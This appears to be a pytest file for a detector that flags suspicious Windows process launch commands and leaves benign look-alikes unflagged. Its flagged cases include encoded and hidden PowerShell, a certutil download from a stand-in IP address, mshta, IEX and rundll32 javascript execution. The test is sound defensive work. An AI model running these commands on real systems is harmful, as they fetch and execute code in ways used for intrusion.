"""Commands that somebody should look at, and those that look like them."""

import pytest

from exward.posture.launched import odd, suspicion


@pytest.mark.parametrize(
    "command",
    [
        r"C:\Users\Public\a.exe",
        r'"c:\windows\temp\x.bat"',
        r"C:\PerfLogs\p.exe",
        r"C:\Users\jo\AppData\Local\Temp\u.exe",
        r"C:\ProgramData\x.exe -k",
        r"powershell.exe -nop -enc SQBFAFgA",
        r"pwsh -WindowStyle hidden -f x.ps1",
        r"cmd /c certutil -urlcache -f http://192.0.2.1/a a",
        r"mshta.exe x.hta",
        r"powershell IEX (x)",
        "rundll32 javascript:x",
    ],
)
def test_what_is_odd(command):
    assert suspicion(command) is not None
    assert odd([("n", command)]) == (f"n ({suspicion(command)}): {command}",)


@pytest.mark.parametrize(
    "command",
    [
        "",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p",
        r'"C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeTransport.exe"',
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe",
        r"powershell.exe -ExecutionPolicy Bypass -File C:\Scripts\rotate.ps1",
        r"%windir%\system32\rundll32.exe shell32.dll,Control_RunDLL",
        "x" * 100_000 + r" C:\Users\Public\a.exe",
    ],
)
def test_what_is_not(command):
    assert suspicion(command) is None
    assert odd([("n", command)]) == ()
